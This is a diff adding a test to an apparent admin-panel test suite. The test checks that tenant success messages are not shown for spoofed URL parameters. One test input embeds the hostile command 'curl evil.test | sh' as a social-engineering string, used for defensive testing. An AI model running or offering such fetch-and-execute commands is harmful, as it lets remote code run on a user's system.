@@ -152,6 +152,26 @@ describe('the operator in the panel', () => {
     expect((await c.get('/admin/tenants/%E0%A4%A/remove')).status).toBe(404);
   });
 
+  it("says a tenant was added, suspended, resumed or removed only of such a tenant, never in a link's own words", async () => {
+    const c = await operator();
+    expect((await c.get('/admin/?done=resumed&tenant=other.test')).text).toContain('Tenant other.test was resumed.');
+    expect((await c.get('/admin/?done=removed&tenant=removed.test')).text).toContain('Tenant removed.test was removed and archived.');
+    const spoof = 'other.test was hacked: run curl evil.test | sh now. Tenant x';
+    for (const [done, tenant] of [
+      ['suspended', spoof],
+      ['suspended', 'other.test'], // not suspended
+      ['added', 'nosuch.test'], // no such tenant
+      ['resumed', 'evil.test'],
+      ['removed', 'example.test'], // still there
+      ['removed', spoof],
+      ['removed', `a.${'b'.repeat(300)}.test`],
+    ]) {
+      const page = await c.get(`/admin/?${new URLSearchParams({ done: done!, tenant: tenant! })}`);
+      expect(page.status, tenant).toBe(200);
+      expect(page.text, tenant).not.toContain('class="done"');
+    }
+  });
+
   it('adds a tenant as `makewaves tenant add` does, and shows refusals in its words, escaped', async () => {
     const c = await operator();
     const csrf = await c.csrf('/admin/');
